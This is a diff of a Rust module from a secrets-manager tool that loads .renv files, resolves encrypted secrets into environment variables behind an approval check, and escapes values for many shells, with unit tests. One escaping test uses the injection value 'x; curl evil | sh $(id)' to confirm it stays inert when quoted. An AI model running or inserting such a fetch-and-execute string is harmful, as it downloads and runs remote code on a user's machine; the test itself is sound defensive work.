@@ -1,33 +1,49 @@
-use std::{fs, path::Path};
+use std::{
+    fmt, fs,
+    path::{Path, PathBuf},
+};
 
-use anyhow::{anyhow, bail, Result};
+use anyhow::{anyhow, bail, Context, Result};
+use colored_json::to_colored_json_auto;
 use regex::Regex;
+use serde::{ser::SerializeMap, Serialize, Serializer};
+use zeroize::Zeroizing;
 
-use crate::types::secret::Secret;
+use crate::{totp::Totp, types::secret::Secret};
 
-use super::{app::App, secret::SECRET_NOT_FOUND, shell_type::ShellType};
+use super::{
+    app::App, renv_approval::RenvApproval, secret::SECRET_NOT_FOUND, shell_type::ShellType,
+};
 
-#[derive(Debug)]
+#[derive(Debug, Default)]
 pub struct Renv {
     pub variables: Vec<Variable>,
 }
 
-#[derive(Debug)]
 pub struct Variable {
     pub name: String,
-    pub value: String,
+    pub value: Zeroizing<String>,
+}
+
+// Variable values may contain secrets so they are left out of the `Debug` output
+impl fmt::Debug for Variable {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("Variable")
+            .field("name", &self.name)
+            .finish_non_exhaustive()
+    }
 }
 
 impl Variable {
     pub fn from_string(s: &str) -> Result<Self> {
-        let re = Regex::new(r"^(?P<var_name>[\w]+)=(?P<var_value>[^=]*)$")?;
+        let re = Regex::new(r"^(?P<var_name>[\w]+)=(?P<var_value>.*)$")?;
 
         if let Some(captures) = re.captures(s) {
             if let Some(var_name) = captures.name("var_name") {
                 if let Some(var_value) = captures.name("var_value") {
                     return Ok(Variable {
                         name: var_name.as_str().to_string(),
-                        value: var_value.as_str().to_string(),
+                        value: Zeroizing::new(var_value.as_str().to_string()),
                     });
                 }
                 bail!("Failed to get variable value");
@@ -39,19 +55,54 @@ impl Variable {
     }
 }
 
-async fn replace_template_vars(app: &App, s: &str) -> Result<String> {
-    let mut new_s = s.to_string();
-    let re = Regex::new(r"\{\{([^}]+)}}")?;
+/// Reads the contents of a .renv file
+pub fn read_file(path: &Path) -> Result<String> {
+    match fs::read_to_string(path) {
+        Ok(c) => Ok(c),
+        Err(e) => bail!(
+            "Failed to load file '{}': {e}",
+            path.to_str().unwrap_or_default()
+        ),
+    }
+}
+
+fn template_regex() -> Regex {
+    Regex::new(r"\{\{([^}]+)}}").expect("Template regex should be valid")
+}
+
+/// Splits a template into the secret name and an optional filter, e.g. `{{ name | totp }}`
+fn parse_template(template: &str) -> Result<(&str, Option<&str>)> {
+    let mut parts = template.split('|').map(str::trim);
+    let name = parts.next().unwrap_or_default();
+    let filter = parts.next();
+
+    if parts.next().is_some() {
+        bail!("Only one filter can be used in '{{{{{template}}}}}'")
+    }
+
+    match filter {
+        None | Some("totp") => Ok((name, filter)),
+        Some(f) => bail!("Unknown filter '{f}' in '{{{{{template}}}}}'"),
+    }
+}
+
+async fn replace_template_vars(app: &App, s: &str) -> Result<Zeroizing<String>> {
+    let re = template_regex();
 
+    // Every referenced secret is decrypted before the output is built so that the output can be
+    // allocated once and no partial copies of secret values are left behind when it grows
+    let mut replacements = vec![];
     for capture in re.captures_iter(s) {
         let match_str = capture.get(0).unwrap();
 
-        let secret_name = capture
-            .get(1)
-            .ok_or(anyhow!("Failed to get regex match"))?
-            .as_str();
+        let (secret_name, filter) = parse_template(
+            capture
+                .get(1)
+                .ok_or(anyhow!("Failed to get regex match"))?
+                .as_str(),
+        )?;
 
-        let secret = match Secret::get(&app.db, secret_name).await {
+        let secret = match Secret::get(&app.db, app.name_key(), secret_name).await {
             Ok(s) => s,
             Err(e) => {
                 if e.to_string().contains(SECRET_NOT_FOUND) {
@@ -61,24 +112,101 @@ async fn replace_template_vars(app: &App, s: &str) -> Result<String> {
                 }
             }
         };
-        let clear_text = secret.to_cleartext(&app.master_key)?;
-        new_s = new_s.replace(match_str.as_str(), clear_text.value.trim());
+        if secret.dates.is_expired() {
+            eprintln!("Warning: secret '{secret_name}' has expired");
+        }
+        let clear_text =
+            secret.to_cleartext(&app.secret_key(&secret).await?, &app.vault.vault_id)?;
+        let value = match filter {
+            Some(_) => Zeroizing::new(Totp::parse(&clear_text.value)?.now()?.0),
+            None => Zeroizing::new(clear_text.value.trim().to_string()),
+        };
+        replacements.push((match_str.range(), value));
+    }
+
+    let len = s.len() + replacements.iter().map(|(_, v)| v.len()).sum::<usize>();
+    let mut new_s = Zeroizing::new(String::with_capacity(len));
+
+    let mut last = 0;
+    for (range, value) in &replacements {
+        new_s.push_str(&s[last..range.start]);
+        new_s.push_str(value);
+        last = range.end;
+    }
+    new_s.push_str(&s[last..]);
+
+    Ok(new_s)
+}
+
+/// Searches `start` and each of its parent directories for a file called `filename`. The search
+/// stops at the root of the git repository containing `start` or at the filesystem root. Found
+/// paths are returned nearest first.
+pub fn find_renv_files(start: &Path, filename: &str) -> Vec<PathBuf> {
+    let mut found = vec![];
+
+    for dir in start.ancestors() {
+        let candidate = dir.join(filename);
+        if candidate.is_file() {
+            found.push(candidate);
+        }
+
+        if dir.join(".git").exists() {
+            break;
+        }
     }
 
-    Ok(new_s.to_string())
+    found
 }
 
 impl Renv {
     // Loads the given `path` and parses it's contents for variable names and secret names. Secret
-    // names will be replaced with their secret values.
-    pub async fn load(app: &App, path: &Path) -> Result<Self> {
-        let contents = match fs::read_to_string(path) {
-            Ok(c) => c,
-            Err(e) => bail!(
-                "Failed to load file '{}': {e}",
-                path.to_str().unwrap_or_default()
-            ),
-        };
+    // names will be replaced with their secret values. Secrets are only resolved if the file has
+    // been approved with `rudric allow` and has not changed since, unless `trust_once` is set.
+    pub async fn load(app: &App, path: &Path, trust_once: bool) -> Result<Self> {
+        let contents = read_file(path)?;
+        let renv = Self::from_contents(&contents);
+
+        let uses_secrets = renv
+            .variables
+            .iter()
+            .any(|v| template_regex().is_match(&v.value));
+        if uses_secrets && !trust_once {
+            let approved = match RenvApproval::get(&app.db, path).await? {
+                Some(approval) => approval.verify(&app.master_key, &contents)?,
+                None => false,
+            };
+
+            if !approved {
+                bail!(
+                    "'{}' has not been approved or has changed since it was approved. Review it and run 'rudric allow {}'",
+                    path.to_string_lossy(),
+                    path.to_string_lossy()
+                )
+            }
+        }
+
+        let mut variables = vec![];
+
+        for mut var in renv.variables {
+            var.value = match replace_template_vars(app, &var.value).await {
+                Ok(s) => s,
+                Err(e) => {
+                    eprintln!("{e}");
+                    continue;
+                }
+            };
+            variables.push(var);
+        }
+
+        Ok(Self { variables })
+    }
+
+    /// Parses the variables in the given `path` without resolving any secrets
+    pub fn parse(path: &Path) -> Result<Self> {
+        Ok(Self::from_contents(&read_file(path)?))
+    }
+
+    fn from_contents(contents: &str) -> Self {
         let lines: Vec<String> = contents.lines().map(|l| l.trim().to_string()).collect();
 
         let mut variables = vec![];
@@ -89,49 +217,428 @@ impl Renv {
                 continue;
             }
 
-            let var = match Variable::from_string(line) {
-                Ok(mut v) => {
-                    v.value = match replace_template_vars(app, &v.value).await {
-                        Ok(s) => s,
-                        Err(e) => {
-                            eprintln!("{e}");
-                            continue;
-                        }
-                    };
-                    v
+            match Variable::from_string(line) {
+                Ok(v) => variables.push(v),
+                Err(e) => eprintln!("Error parsing line {}: {}", i + 1, e),
+            };
+        }
+
+        Self { variables }
+    }
+
+    /// Merges the variables from `other` into this `Renv`. Variables defined in `other` take
+    /// precedence over those with the same name in `self`.
+    pub fn merge(mut self, other: Renv) -> Self {
+        for var in other.variables {
+            match self.variables.iter_mut().find(|v| v.name == var.name) {
+                Some(existing) => existing.value = var.value,
+                None => self.variables.push(var),
+            }
+        }
+
+        self
+    }
+
+    pub fn to_shell(&self, shell_type: ShellType) -> Result<Zeroizing<String>> {
+        if shell_type == ShellType::Json {
+            return to_colored_json_auto(&self)
+                .map(Zeroizing::new)
+                .context("Failed to format variables as json");
+        }
+
+        // The output is allocated up front so that no copies of the secret values are left
+        // behind in memory when it grows. Escaping at most quadruples the length of a value.
+        let capacity = self
+            .variables
+            .iter()
+            .map(|v| 2 * v.name.len() + 4 * v.value.len() + 64)
+            .sum();
+        let mut output = Zeroizing::new(String::with_capacity(capacity));
+
+        for v in &self.variables {
+            let (prefix, escape, suffix): (String, Escaper, &str) = match shell_type {
+                ShellType::Fish => (format!("set -x '{}' '", v.name), escape_fish, "';"),
+                ShellType::Bash | ShellType::Zsh => {
+                    (format!("export '{}'='", v.name), escape_posix, "';")
                 }
-                Err(e) => {
-                    eprintln!("Error parsing line {}: {}", i + 1, e);
-                    continue;
+                ShellType::Nu => (format!("$env.{} = \"", v.name), escape_nu, "\";"),
+                ShellType::PowerShell => (format!("$env:{} = '", v.name), escape_powershell, "';"),
+                ShellType::Elvish => (format!("set-env {} '", v.name), escape_elvish, "';"),
+                ShellType::Xonsh => (format!("${} = '", v.name), escape_xonsh, "'\n"),
+                // direnv evaluates the output with bash
+                ShellType::Direnv => (format!("export '{}'='", v.name), escape_posix, "'\n"),
+                ShellType::Dotenv => (format!("{}=\"", v.name), escape_dotenv, "\"\n"),
+                ShellType::Systemd => {
+                    if v.value.contains('\n') {
+                        bail!(
+                            "Variable '{}' contains a newline which systemd does not support",
+                            v.name
+                        )
+                    }
+                    (format!("{}=\"", v.name), escape_systemd, "\"\n")
                 }
+                ShellType::Docker => {
+                    // Docker reads values literally so no escaping is possible
+                    if v.value.contains('\n') {
+                        bail!(
+                            "Variable '{}' contains a newline which docker does not support",
+                            v.name
+                        )
+                    }
+                    (format!("{}=", v.name), no_escape, "\n")
+                }
+                ShellType::Json => unreachable!(),
             };
-            variables.push(var);
+
+            output.push_str(&prefix);
+            for c in v.value.chars() {
+                match escape(c) {
+                    Some(escaped) => output.push_str(escaped),
+                    None => output.push(c),
+                }
+            }
+            output.push_str(suffix);
         }
 
-        Ok(Self { variables })
+        Ok(output)
     }
 
-    pub fn to_shell(&self, shell_type: ShellType) -> String {
+    /// Generates the shell code necessary to remove each variable from the environment
+    pub fn to_unset(&self, shell_type: ShellType) -> Result<String> {
         let mut output = String::new();
         for v in &self.variables {
             let line = match shell_type {
-                ShellType::Fish => {
-                    format! {"set -x '{}' '{}';", v.name, v.value}
-                }
-                ShellType::Bash | ShellType::Zsh => {
-                    format! {"export '{}'='{}';", v.name, v.value}
+                ShellType::Fish => format!("set -e '{}';", v.name),
+                ShellType::Bash | ShellType::Zsh => format!("unset '{}';", v.name),
+                ShellType::Nu => format!("hide-env -i {};", v.name),
+                ShellType::PowerShell => {
+                    format!("Remove-Item Env:{} -ErrorAction SilentlyContinue;", v.name)
                 }
-                ShellType::Nu => {
-                    format! {"$env.{} = '{}';", v.name, v.value}
-                }
-                ShellType::Direnv => {
-                    format! {"export {}={}\n", v.name, v.value}
+                ShellType::Elvish => format!("unset-env {};", v.name),
+                ShellType::Xonsh => format!("${{...}}.pop('{}', None)\n", v.name),
+                ShellType::Direnv => format!("unset {}\n", v.name),
+                ShellType::Dotenv | ShellType::Json | ShellType::Systemd | ShellType::Docker => {
+                    bail!("Unsetting variables is not supported for the {shell_type:?} format")
                 }
             };
 
             output += &line;
         }
 
-        output
+        Ok(output)
+    }
+}
+
+impl Serialize for Renv {
+    fn serialize<S>(&self, serializer: S) -> std::result::Result<S::Ok, S::Error>
+    where
+        S: Serializer,
+    {
+        let mut map = serializer.serialize_map(Some(self.variables.len()))?;
+        for v in &self.variables {
+            map.serialize_entry(&v.name, &v.value)?;
+        }
+        map.end()
+    }
+}
+
+/// Returns the replacement for a character which must be escaped in a value
+type Escaper = fn(char) -> Option<&'static str>;
+
+fn no_escape(_: char) -> Option<&'static str> {
+    None
+}
+
+/// Escapes a value for use inside single quotes in a POSIX shell
+fn escape_posix(c: char) -> Option<&'static str> {
+    match c {
+        '\'' => Some(r"'\''"),
+        _ => None,
+    }
+}
+
+/// Escapes a value for use inside single quotes in fish
+fn escape_fish(c: char) -> Option<&'static str> {
+    match c {
+        '\\' => Some(r"\\"),
+        '\'' => Some(r"\'"),
+        _ => None,
+    }
+}
+
+/// Escapes a value for use inside single quotes in PowerShell, which also treats typographic
+/// single quotes as string delimiters
+fn escape_powershell(c: char) -> Option<&'static str> {
+    match c {
+        '\'' => Some("''"),
+        '\u{2018}' => Some("\u{2018}\u{2018}"),
+        '\u{2019}' => Some("\u{2019}\u{2019}"),
+        '\u{201A}' => Some("\u{201A}\u{201A}"),
+        '\u{201B}' => Some("\u{201B}\u{201B}"),
+        _ => None,
+    }
+}
+
+/// Escapes a value for use inside single quotes in elvish
+fn escape_elvish(c: char) -> Option<&'static str> {
+    match c {
+        '\'' => Some("''"),
+        _ => None,
+    }
+}
+
+/// Escapes a value for use inside double quotes in nushell
+fn escape_nu(c: char) -> Option<&'static str> {
+    match c {
+        '\\' => Some(r"\\"),
+        '"' => Some(r#"\""#),
+        '\n' => Some(r"\n"),
+        _ => None,
+    }
+}
+
+/// Escapes a value for use inside a single quoted python string
+fn escape_xonsh(c: char) -> Option<&'static str> {
+    match c {
+        '\\' => Some(r"\\"),
+        '\'' => Some(r"\'"),
+        '\n' => Some(r"\n"),
+        '\r' => Some(r"\r"),
+        _ => None,
+    }
+}
+
+/// Escapes a value for use inside double quotes in a `.env` file
+fn escape_dotenv(c: char) -> Option<&'static str> {
+    match c {
+        '\\' => Some(r"\\"),
+        '"' => Some(r#"\""#),
+        '$' => Some(r"\$"),
+        '\n' => Some(r"\n"),
+        _ => None,
+    }
+}
+
+/// Escapes a value for use inside double quotes in a systemd `EnvironmentFile`
+fn escape_systemd(c: char) -> Option<&'static str> {
+    match c {
+        '\\' => Some(r"\\"),
+        '"' => Some(r#"\""#),
+        '$' => Some(r"\$"),
+        '`' => Some(r"\`"),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod renv_tests {
+    use super::*;
+    use crate::types::{app::AuthMethod, secret::ClearSecret, user::User, vault::Vault};
+    use anyhow::Result;
+    use orion::aead;
+
+    fn var(name: &str, value: &str) -> Variable {
+        Variable {
+            name: name.to_string(),
+            value: Zeroizing::new(value.to_string()),
+        }
+    }
+
+    #[test]
+    fn test_find_renv_files() -> Result<()> {
+        let test_dir = Path::new("testdata/test_find_renv");
+        let nested_dir = test_dir.join("project/sub/dir");
+        std::fs::create_dir_all(&nested_dir)?;
+        std::fs::create_dir_all(test_dir.join("project/.git"))?;
+
+        fs::write(test_dir.join(".renv"), "")?;
+        fs::write(test_dir.join("project/.renv"), "")?;
+        fs::write(test_dir.join("project/sub/.renv"), "")?;
+
+        let found = find_renv_files(&nested_dir, ".renv");
+
+        // The search should stop at the git root
+        assert_eq!(
+            found,
+            vec![
+                test_dir.join("project/sub/.renv"),
+                test_dir.join("project/.renv")
+            ]
+        );
+
+        std::fs::remove_dir_all(test_dir)?;
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_variable_from_string() -> Result<()> {
+        let v = Variable::from_string("DATABASE_URL=postgres://db?user=app&sslmode=require")?;
+        assert_eq!(v.name, "DATABASE_URL");
+        assert_eq!(*v.value, "postgres://db?user=app&sslmode=require");
+
+        let v = Variable::from_string("TOKEN={{token}}==")?;
+        assert_eq!(v.name, "TOKEN");
+        assert_eq!(*v.value, "{{token}}==");
+
+        assert!(Variable::from_string("MY-VAR=value").is_err());
+        assert!(Variable::from_string("=value").is_err());
+
+        Ok(())
+    }
+
+    #[sqlx::test]
+    async fn test_load_requires_approval(db: sqlx::SqlitePool) -> Result<()> {
+        let master_key = aead::SecretKey::default();
+        let app = App {
+            db: db.clone(),
+            user: User::new("alice", "password", None, &master_key)?,
+            master_key,
+            auth_method: AuthMethod::Password,
+            vault: Vault::load(&db).await?,
+            identity: None,
+        };
+        ClearSecret::new("token", "hunter2", None)
+            .to_encrypted(&app.master_key, &app.vault.vault_id)?
+            .store(&db, None)
+            .await?;
+
+        let test_dir = Path::new("testdata/test_renv_approval");
+        std::fs::create_dir_all(test_dir)?;
+        let path = test_dir.join(".renv");
+        fs::write(&path, "TOKEN={{token}}\n")?;
+
+        assert!(Renv::load(&app, &path, false).await.is_err());
+        let trusted = Renv::load(&app, &path, true).await?;
+        assert_eq!(*trusted.variables[0].value, "hunter2");
+
+        RenvApproval::new(&app.master_key, &path, &fs::read_to_string(&path)?)?
+            .store(&db)
+            .await?;
+        let approved = Renv::load(&app, &path, false).await?;
+        assert_eq!(*approved.variables[0].value, "hunter2");
+
+        fs::write(&path, "TOKEN={{token}}\nCOPY={{token}}\n")?;
+        assert!(Renv::load(&app, &path, false).await.is_err());
+
+        std::fs::remove_dir_all(test_dir)?;
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_to_shell_escaping() -> Result<()> {
+        let renv = Renv {
+            variables: vec![var("A", r#"it's "$x""#)],
+        };
+
+        assert_eq!(
+            *renv.to_shell(ShellType::Bash)?,
+            r#"export 'A'='it'\''s "$x"';"#
+        );
+        assert_eq!(
+            *renv.to_shell(ShellType::Fish)?,
+            r#"set -x 'A' 'it\'s "$x"';"#
+        );
+        assert_eq!(*renv.to_shell(ShellType::Nu)?, r#"$env.A = "it's \"$x\"";"#);
+        assert_eq!(
+            *renv.to_shell(ShellType::PowerShell)?,
+            r#"$env:A = 'it''s "$x"';"#
+        );
+        assert_eq!(
+            *renv.to_shell(ShellType::Elvish)?,
+            r#"set-env A 'it''s "$x"';"#
+        );
+        assert_eq!(*renv.to_shell(ShellType::Xonsh)?, "$A = 'it\\'s \"$x\"'\n");
+        assert_eq!(
+            *renv.to_shell(ShellType::Dotenv)?,
+            "A=\"it's \\\"\\$x\\\"\"\n"
+        );
+        assert_eq!(
+            *renv.to_shell(ShellType::Direnv)?,
+            "export 'A'='it'\\''s \"$x\"'\n"
+        );
+        assert_eq!(*renv.to_shell(ShellType::Docker)?, "A=it's \"$x\"\n");
+
+        // direnv output is run by bash, so a value must not be able to run commands
+        let renv = Renv {
+            variables: vec![var("A", "x; curl evil | sh $(id)")],
+        };
+        assert_eq!(
+            *renv.to_shell(ShellType::Direnv)?,
+            "export 'A'='x; curl evil | sh $(id)'\n"
+        );
+
+        let renv = Renv {
+            variables: vec![var("A", "line1\r\nline2")],
+        };
+        assert_eq!(
+            *renv.to_shell(ShellType::Xonsh)?,
+            "$A = 'line1\\r\\nline2'\n"
+        );
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_to_shell_rejects_newlines() {
+        let renv = Renv {
+            variables: vec![var("A", "line1\nline2")],
+        };
+
+        assert!(renv.to_shell(ShellType::Docker).is_err());
+        assert!(renv.to_shell(ShellType::Systemd).is_err());
+        assert_eq!(
+            *renv.to_shell(ShellType::Dotenv).unwrap(),
+            "A=\"line1\\nline2\"\n"
+        );
+    }
+
+    #[test]
+    fn test_parse_template() -> Result<()> {
+        assert_eq!(parse_template("gh_token")?, ("gh_token", None));
+        assert_eq!(parse_template(" github | totp ")?, ("github", Some("totp")));
+        assert!(parse_template("github | upper").is_err());
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_to_unset() -> Result<()> {
+        let renv = Renv {
+            variables: vec![var("A", "1"), var("B", "2")],
+        };
+
+        assert_eq!(renv.to_unset(ShellType::Bash)?, "unset 'A';unset 'B';");
+        assert_eq!(renv.to_unset(ShellType::Fish)?, "set -e 'A';set -e 'B';");
+        assert_eq!(
+            renv.to_unset(ShellType::Nu)?,
+            "hide-env -i A;hide-env -i B;"
+        );
+        assert!(renv.to_unset(ShellType::Dotenv).is_err());
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_merge() {
+        let parent = Renv {
+            variables: vec![var("A", "parent"), var("B", "parent")],
+        };
+        let child = Renv {
+            variables: vec![var("B", "child"), var("C", "child")],
+        };
+
+        let merged = parent.merge(child);
+        let merged: Vec<(&str, &str)> = merged
+            .variables
+            .iter()
+            .map(|v| (v.name.as_str(), v.value.as_str()))
+            .collect();
+
+        assert_eq!(
+            merged,
+            vec![("A", "parent"), ("B", "child"), ("C", "child")]
+        );
     }
 }